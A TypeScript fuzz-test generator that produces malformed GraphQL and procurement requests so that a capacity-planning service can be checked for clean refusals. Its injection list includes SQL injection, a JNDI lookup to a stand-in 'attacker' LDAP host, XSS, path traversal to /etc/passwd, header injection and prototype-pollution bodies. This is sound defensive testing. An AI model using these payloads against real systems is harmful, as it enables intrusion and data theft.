import { Prng } from '../../src/tools/seed/prng.util';

/**
 * Generated malformed requests: every one is refused by the service (bad JSON, bad GraphQL, invalid
 * input, or a command on a PoP that does not exist), so a correct service appends nothing, answers
 * no 5xx and keeps running. Deterministic for a seed.
 */
export interface FuzzRequest {
  kind: string;
  method: 'POST' | 'GET';
  path: string;
  headers: Record<string, string>;
  body?: string;
}

type Field = 'id' | 'int' | 'float' | 'enum' | 'text' | 'country' | 'date' | 'instant' | 'object' | 'list';

interface MutationSpec {
  name: string;
  input: Record<string, unknown>;
  fields: Record<string, Field>;
  required: string[];
}

/** A PoP and a workload that never exist in the fuzzed service: commands on them are NOT_FOUND, even if valid. */
const NOWHERE = 'fuzz-nowhere';
const EUR = { amount: '100.00', currency: 'EUR' };

/** Mutations whose valid input would create a stream: the fuzzer always breaks one of their fields. */
const CREATING = new Set(['registerPop', 'registerWorkload', 'defineResidencyPolicy', 'setExchangeRates', 'createScenario']);

const MUTATIONS: MutationSpec[] = [
  {
    name: 'registerPop',
    input: { popId: 'fz1', code: 'FZ1', name: 'Fuzz', kind: 'PHYSICAL', operatorModel: 'OWNED', countryCode: 'DE', city: 'Berlin', latitude: 52.5, longitude: 13.4 },
    fields: { popId: 'id', code: 'id', name: 'text', kind: 'enum', operatorModel: 'enum', countryCode: 'country', city: 'text', latitude: 'float', longitude: 'float' },
    required: ['popId', 'code', 'name', 'kind', 'operatorModel', 'countryCode'],
  },
  {
    name: 'leaseSite',
    input: { popId: NOWHERE, leaseId: 'l1', lessor: 'x', startsOn: '2026-01-01', monthlyCost: EUR, contractedPowerKw: 10, maxRacks: 4 },
    fields: { popId: 'id', leaseId: 'id', lessor: 'text', startsOn: 'date', monthlyCost: 'object', contractedPowerKw: 'float', maxRacks: 'int' },
    required: ['popId', 'leaseId', 'startsOn', 'monthlyCost'],
  },
  {
    name: 'installRack',
    input: { popId: NOWHERE, rackId: 'r1', heightU: 42, maxPowerKw: 8 },
    fields: { popId: 'id', rackId: 'id', heightU: 'int', maxPowerKw: 'float' },
    required: ['popId', 'rackId'],
  },
  {
    name: 'addPowerFeed',
    input: { popId: NOWHERE, feedId: 'f1', rackId: 'r1', side: 'A', phase: 'SINGLE', voltage: 230, amperage: 32 },
    fields: { popId: 'id', feedId: 'id', rackId: 'id', side: 'enum', phase: 'enum', voltage: 'float', amperage: 'float', deratingPercent: 'float', powerFactor: 'float' },
    required: ['popId', 'feedId', 'rackId', 'side', 'phase', 'voltage', 'amperage'],
  },
  {
    name: 'installDevice',
    input: { popId: NOWHERE, deviceId: 'd1', rackId: 'r1', role: 'SERVER', positionU: 1, heightU: 1, powerDrawWatts: 100, purchaseCost: EUR },
    fields: { popId: 'id', deviceId: 'id', rackId: 'id', name: 'text', role: 'enum', positionU: 'int', heightU: 'int', powerDrawWatts: 'float', purchaseCost: 'object' },
    required: ['popId', 'deviceId', 'rackId', 'role', 'positionU', 'heightU', 'powerDrawWatts'],
  },
  {
    name: 'connectCarrier',
    input: { popId: NOWHERE, circuitId: 'c1', carrier: 'x', type: 'TRANSIT', bandwidthMbps: 1_000, monthlyCost: EUR, termMonths: 12 },
    fields: { popId: 'id', circuitId: 'id', carrier: 'text', type: 'enum', bandwidthMbps: 'int', monthlyCost: 'object', termMonths: 'int' },
    required: ['popId', 'circuitId', 'carrier', 'type', 'bandwidthMbps', 'monthlyCost'],
  },
  {
    name: 'reserveCapacity',
    input: { popId: NOWHERE, reservationId: 'x1', resource: 'SPACE_U', amount: 1, from: '2026-01-01T00:00:00Z', until: '2026-02-01T00:00:00Z', note: 'n' },
    fields: { popId: 'id', reservationId: 'id', resource: 'enum', amount: 'float', from: 'instant', until: 'instant', note: 'text' },
    required: ['popId', 'reservationId', 'resource', 'amount', 'from'],
  },
  {
    name: 'registerWorkload',
    input: { workloadId: 'w1', tenant: 't', name: 'n', dataCategories: ['PUBLIC', 'PERSONAL'] },
    fields: { workloadId: 'id', tenant: 'text', name: 'text', dataCategories: 'list' },
    required: ['workloadId', 'tenant', 'name', 'dataCategories'],
  },
  {
    name: 'placeWorkload',
    input: { workloadId: NOWHERE, popId: NOWHERE, role: 'PRIMARY' },
    fields: { workloadId: 'id', popId: 'id', role: 'enum' },
    required: ['workloadId', 'popId', 'role'],
  },
  {
    name: 'defineResidencyPolicy',
    input: { policyId: 'p1', name: 'n', kind: 'ALLOWED_LOCATIONS', dataCategory: 'PERSONAL', allowedGroups: ['EEA'], deniedCountries: ['US'] },
    fields: { policyId: 'id', name: 'text', kind: 'enum', dataCategory: 'enum', allowedGroups: 'list', deniedCountries: 'list' },
    required: ['policyId', 'name', 'kind', 'dataCategory'],
  },
  {
    name: 'setExchangeRates',
    input: { base: 'EUR', rates: [{ currency: 'USD', toBase: '0.92' }] },
    fields: { base: 'country', rates: 'list' },
    required: ['base', 'rates'],
  },
  {
    name: 'createScenario',
    input: { scenarioId: 'fz-plan', name: 'Fuzz plan', description: 'what if' },
    fields: { scenarioId: 'id', name: 'text', description: 'text' },
    required: ['scenarioId', 'name'],
  },
  {
    name: 'addScenarioSteps',
    input: { scenarioId: NOWHERE, steps: [{ stepId: 's1', installRack: { popId: NOWHERE, rackId: 'r1' } }, { stepId: 's2', placeWorkload: { workloadId: NOWHERE, popId: NOWHERE, role: 'PRIMARY' } }] },
    fields: { scenarioId: 'id', steps: 'list' },
    required: ['scenarioId', 'steps'],
  },
  {
    name: 'removeScenarioStep',
    input: { scenarioId: NOWHERE, stepId: 's1' },
    fields: { scenarioId: 'id', stepId: 'id' },
    required: ['scenarioId', 'stepId'],
  },
  {
    name: 'discardScenario',
    input: { scenarioId: NOWHERE, dryRun: true },
    fields: { scenarioId: 'id', dryRun: 'enum' },
    required: ['scenarioId'],
  },
];

const INJECTIONS = [
  "'; DROP TABLE es_events; --",
  '1 OR 1=1',
  '${jndi:ldap://attacker/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '{{7*7}}',
  '%00%0d%0a',
  '$where: 1',
  'pop-x\nInjected: header',
];
const UNICODE = ['\u0000', '\ud800', '\udfff', '\u202eevil', 'zero\u200bwidth', '🚀🔥', 'Ωmega', '\uffff', 'ﬀ', 'a\u0301'];

/** Wrong-typed values per field type; list fields only get values GraphQL cannot coerce into a list. */
const WRONG_TYPE: Record<Field, unknown[]> = {
  id: [true, { a: 1 }, [1], 1.5, null],
  int: ['abc', 1.5, true, { n: 1 }, '1', 2 ** 31, -(2 ** 31) - 1, null],
  float: ['abc', true, { n: 1 }, [1], 'NaN', 'Infinity', null],
  enum: ['NOT_A_VALUE', 3, true, 'server', null],
  text: [123, true, { s: 1 }, [], null],
  country: ['XX', 'de', 'DEU', '', 'ZZ', 42],
  date: ['2026-02-30', '31/12/2026', 'tomorrow', '2026-1-1', 20260101],
  instant: ['yesterday', '2026-13-01T00:00:00Z', '1700000000', 'NaN', true],
  object: ['EUR', 5, [], { amount: 'ten', currency: 'EUR' }, { amount: '1.00', currency: 'EURO' }, { amount: '-1', currency: 'EUR' }],
  list: [[{}], [123], [null], ['NOT_A_CATEGORY'], [[['deep']]]],
};

/** Values out of every range a field of that type accepts. */
const OUT_OF_RANGE: Partial<Record<Field, unknown[]>> = {
  int: [2 ** 31, -(2 ** 31) - 1, 1e300, -1e300],
  float: [1e300, -1e300, 1.7976931348623157e308, -1.7976931348623157e308],
  text: ['', 'x'.repeat(1_001), 'y'.repeat(200_000)],
};

export class FuzzCases {
  private readonly p: Prng;

  constructor(
    seed: number,
    private readonly keys: { admin: string; procurement: string },
  ) {
    this.p = Prng.derive(seed, 'fuzz');
  }

  next(): FuzzRequest {
    const p = this.p;
    const pick = p.next();
    if (pick < 0.45) return this.brokenMutation();
    if (pick < 0.55) return this.brokenBody();
    if (pick < 0.7) return this.oddQuery();
    return this.brokenProcurement();
  }

  /** A mutation whose input breaks at least one rule its type or validation enforces. */
  private brokenMutation(): FuzzRequest {
    const p = this.p;
    const spec = p.pick(MUTATIONS);
    const input: Record<string, unknown> = JSON.parse(JSON.stringify(spec.input));
    const breaks = CREATING.has(spec.name) ? p.int(1, 3) : p.int(0, 3);
    const applied: string[] = [];
    for (let i = 0; i < breaks; i++) applied.push(this.breakField(spec, input));
    if (breaks === 0) {
      // A valid shape on a PoP or workload that does not exist, with hostile but valid-looking ids.
      input[Object.keys(spec.fields).find((f) => spec.fields[f] === 'id' && f !== 'popId' && f !== 'workloadId') ?? 'popId'] = p.pick(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']);
      applied.push('hostile valid id');
    }
    const document = `mutation($input: ${spec.name[0].toUpperCase()}${spec.name.slice(1)}Input!) { ${spec.name}(input: $input) { streamId revision eventIds } }`;
    return this.graphql(`mutation ${spec.name}: ${applied.join(', ')}`, { query: document, variables: { input } });
  }

  private breakField(spec: MutationSpec, input: Record<string, unknown>): string {
    const p = this.p;
    const how = p.int(0, 4);
    if (how === 0) {
      const field = p.pick(spec.required);
      delete input[field];
      return `missing ${field}`;
    }
    const field = p.pick(Object.keys(spec.fields));
    const type = spec.fields[field];
    if (how === 1 && OUT_OF_RANGE[type]) {
      input[field] = p.pick(OUT_OF_RANGE[type] as unknown[]);
      return `${field} out of range`;
    }
    if (how === 2 && type === 'id') {
      input[field] = p.pick([...INJECTIONS, ...UNICODE, '', 'x'.repeat(65), 'z'.repeat(100_000)]);
      return `${field} not an id`;
    }
    const value = p.pick(WRONG_TYPE[type]);
    // An optional field set to null is valid: break a required one instead.
    if (value === null && !spec.required.includes(field)) {
      const required = p.pick(spec.required);
      input[required] = null;
      return `${required} null`;
    }
    input[field] = value;
    return `${field} wrong type`;
  }

  private brokenBody(): FuzzRequest {
    const p = this.p;
    const valid = JSON.stringify({ query: 'mutation($i: RegisterPopInput!) { registerPop(input: $i) { revision } }', variables: { i: MUTATIONS[0].input } });
    const bodies = [
      () => valid.slice(0, p.int(1, valid.length - 1)),
      () => `${valid.slice(0, -1)},}`,
      () => `${valid}}}}`,
      () => 'query=mutation%7BregisterPop%7D',
      () => '\u0000\u0001\u0002\u00ff',
      () => '',
      () => 'null',
      () => '[]',
      () => '"just a string"',
      () => '{"query": 42}',
      () => '{"query": null, "variables": "x"}',
      () => JSON.stringify({ query: '{ __typename }', variables: [1, 2, 3] }),
      () => JSON.stringify({ query: '{ __typename }', operationName: 'Nope' }),
      () => JSON.stringify(Array.from({ length: 500 }, () => ({ query: '{ __typename }' }))),
      () => '['.repeat(50_000) + ']'.repeat(50_000),
      () => `{"query":"${'\\u0000'.repeat(10_000)}"}`,
    ];
    return { kind: 'broken JSON or envelope', method: 'POST', path: '/graphql', headers: this.auth(this.keys.admin, p.chance(0.8) ? 'application/json' : p.pick(['text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=utf-16'])), body: p.pick(bodies)() };
  }

  /** Deep, wide, unknown, hostile or oversized queries: refused or answered, never a 5xx. */
  private oddQuery(): FuzzRequest {
    const p = this.p;
    const depth = p.pick([20, 200, 2_000, 20_000]);
    const queries = [
      () => `{ ${'a { '.repeat(depth)}b${' }'.repeat(depth)} }`,
      () => `{ ${Array.from({ length: p.pick([100, 1_000, 5_000]) }, (_, i) => `a${i}: __typename`).join(' ')} }`,
      () => `{ ${Array.from({ length: 60 }, (_, i) => `c${i}: capacity(popId: "${NOWHERE}") { popId }`).join(' ')} }`,
      () => `{ pops(first: ${p.pick([-1, 501, 2 ** 31, 1e10])}) { totalCount } }`,
      () => `{ history(streamId: "${p.pick(INJECTIONS).replace(/"/g, '\\"').replace(/\n/g, '\\n')}", first: 1) { totalCount } }`,
      () => `{ history(streamId: "pop-x", after: "${'A'.repeat(p.pick([10, 10_000]))}") { totalCount } }`,
      () => `{ capacity(popId: "${NOWHERE}", asOf: "${p.pick(['not a date', '9999-99-99T99:99:99Z', '2026-01-01'])}") { popId } }`,
      () => `subscription { events { id } }`,
      () => `mutation { ${'registerPop'}(input: {}) { revision } }`,
      () => `query { __schema { types { fields { type { ofType { ofType { ofType { ofType { ofType { ofType { ofType { ofType { name } } } } } } } } } } } } }`,
      () => `{ pop(popId: "${p.pick(UNICODE)}") { popId } }`,
      () => `fragment f on Query { ...f } { ...f }`,
      () => `{ findCapacity(need: { spaceU: ${p.pick(['-5', '1e400', '"ten"', 'null'])} }) { popId } }`,
      () => `{ costSummary(groupBy: NOT_A_GROUP) { key } }`,
      () => `{ residencyReport(countryCode: "${p.pick(['ZZZ', '\\u0000', 'x'.repeat(300)])}") { asOf } }`,
    ];
    return this.graphql('odd query', { query: p.pick(queries)() });
  }

  private brokenProcurement(): FuzzRequest {
    const p = this.p;
    const record = () => {
      const base: Record<string, unknown> = p.pick([
        { externalId: 'PO-1', kind: 'DEVICE_DELIVERED', occurredAt: '2026-01-01T00:00:00Z', popId: NOWHERE, deviceId: 'd1', rackId: 'r1', role: 'SERVER', positionU: 1, heightU: 1, powerDrawWatts: 100 },
        { externalId: 'PO-2', kind: 'LEASE_SIGNED', occurredAt: '2026-01-01T00:00:00Z', popId: NOWHERE, leaseId: 'l1', lessor: 'x', startsOn: '2026-01-01', monthlyCost: EUR },
        { externalId: 'PO-3', kind: 'CIRCUIT_DELIVERED', occurredAt: '2026-01-01T00:00:00Z', popId: NOWHERE, circuitId: 'c1', carrier: 'x', type: 'TRANSIT', bandwidthMbps: 1_000, monthlyCost: EUR },
        { externalId: 'PO-4', kind: 'POWER_DELIVERED', occurredAt: '2026-01-01T00:00:00Z', popId: NOWHERE, feedId: 'f1', rackId: 'r1', side: 'A', phase: 'SINGLE', voltage: 230, amperage: 32 },
      ]);
      const copy: Record<string, unknown> = { ...base, externalId: `${base.externalId}-${p.int(0, 1e6)}` };
      const field = p.pick(Object.keys(copy));
      const how = p.int(0, 3);
      if (how === 0) delete copy[field];
      else if (how === 1) copy[field] = p.pick([...INJECTIONS, ...UNICODE, 1e300, -1, null, true, {}, [], 'x'.repeat(100_000)]);
      else if (how === 2) copy.kind = p.pick(['DEVICE_STOLEN', '', 7, null, 'device_delivered']);
      // how === 3: a well-formed record for a PoP that does not exist (rejected NOT_FOUND)
      return copy;
    };
    const bodies = [
      () => JSON.stringify({ records: Array.from({ length: p.int(1, 50) }, record) }),
      () => JSON.stringify({ records: Array.from({ length: 1_001 }, record) }),
      () => JSON.stringify({ records: [null, 1, 'x', [], true] }),
      () => JSON.stringify({ records: 'all of them' }),
      () => JSON.stringify({ records: { length: 3 } }),
      () => JSON.stringify({}),
      () => JSON.stringify({ records: [record()] }).slice(0, -3),
      () => `{"records":[${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}]}`,
      () => JSON.stringify({ records: [record()] }).replace('[{', '[{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},'),
      () => '\u0000',
    ];
    return { kind: 'procurement batch', method: 'POST', path: '/integrations/procurement/records', headers: this.auth(p.chance(0.8) ? this.keys.procurement : this.keys.admin, 'application/json'), body: p.pick(bodies)() };
  }

  private graphql(kind: string, payload: unknown): FuzzRequest {
    return { kind, method: 'POST', path: '/graphql', headers: this.auth(this.keys.admin, 'application/json'), body: JSON.stringify(payload) };
  }

  private auth(secret: string, contentType: string): Record<string, string> {
    return { authorization: `Bearer ${secret}`, 'content-type': contentType };
  }
}
